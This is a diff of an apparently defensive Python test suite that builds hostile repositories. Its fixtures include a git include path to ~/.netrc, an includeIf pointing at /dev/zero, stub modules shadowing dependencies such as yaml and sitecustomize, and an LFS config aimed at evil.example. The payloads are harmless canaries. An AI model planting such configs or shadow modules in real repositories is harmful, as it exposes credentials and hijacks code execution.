@@ -59,7 +59,9 @@ def alias_like_a_command(site: Site) -> None:
 
 @hostile()
 def included_configuration(site: Site) -> None:
-    _configured(site, ("include.path", str(site.home / ".netrc")), ("includeIf.gitdir:/.path", "/dev/zero"))
+    site.start()
+    with (site.git / "config").open("a") as file:
+        file.write(f'[include]\n\tpath = {site.home / ".netrc"}\n[includeIf "gitdir:/"]\n\tpath = /dev/zero\n')
 
 
 @hostile()
@@ -109,7 +111,7 @@ def bare_repository_in_a_folder(site: Site) -> None:
 @hostile()
 def modules_named_like_ours(site: Site) -> None:
     evil = f"import pathlib\npathlib.Path({str(site.fired / 'module')!r}).touch()\n"
-    names = ("git", "yaml", "radon", "click", "msgspec", "jinja2", "sitecustomize", "usercustomize", "evaluator", "conftest", "nbformat", "rich")
+    names = ["git", "yaml", "radon", "click", "msgspec", "jinja2", "sitecustomize", "evaluator", "conftest", "nbformat", "rich"]
     site.start({f"{name}.py": evil for name in names} | {"evaluator/__init__.py": evil, "setup.py": evil})
 
 
@@ -130,7 +132,9 @@ def settings_for_other_tools(site: Site) -> None:
 @hostile()
 def filter_of_large_files(site: Site) -> None:
     pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 123456\n"
-    site.start({"model.pkl": pointer, ".gitattributes": "*.pkl filter=lfs diff=lfs -text\n", ".lfsconfig": "[lfs]\nurl = https://evil.example\n"})
+    site.start(
+        {"model.pkl": pointer, ".gitattributes": "*.pkl filter=lfs diff=lfs -text\n", ".lfsconfig": "[lfs]\nurl = https://evil.example\n"}
+    )
     git(site.folder, "config", "filter.lfs.process", site.canary("lfs"))
 
 
